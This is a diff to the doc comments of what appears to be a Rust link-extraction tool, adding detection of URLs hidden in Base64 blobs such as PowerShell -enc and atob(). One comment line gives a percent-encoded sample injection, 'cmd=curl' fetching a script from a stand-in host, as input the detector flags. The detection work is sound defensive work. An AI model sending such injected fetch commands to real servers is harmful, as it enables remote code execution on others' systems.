@@ -45,8 +45,10 @@
 //! flag too, with the span of what was written: a link in a
 //! quoted-printable mail body (soft line breaks joined, `=3D` decoded; only
 //! after the text named such a body), and a URL percent-encoded in a
-//! request's path (`…?cmd=curl%20https%3A%2F%2Fdl.example%2Ft.sh`). A link
-//! in XML with `&amp;` keeps its span as written and its value has `&`.
+//! request's path (`…?cmd=curl%20https%3A%2F%2Fdl.example%2Ft.sh`), and
+//! a link in a Base64 blob (PowerShell's UTF-16LE `-enc`, a cloud
+//! instance's user data, `atob("…")`), with the blob's span. A link in
+//! XML with `&amp;` keeps its span as written and its value has `&`.
 //!
 //! # Why psl for the Public Suffix List
 //!
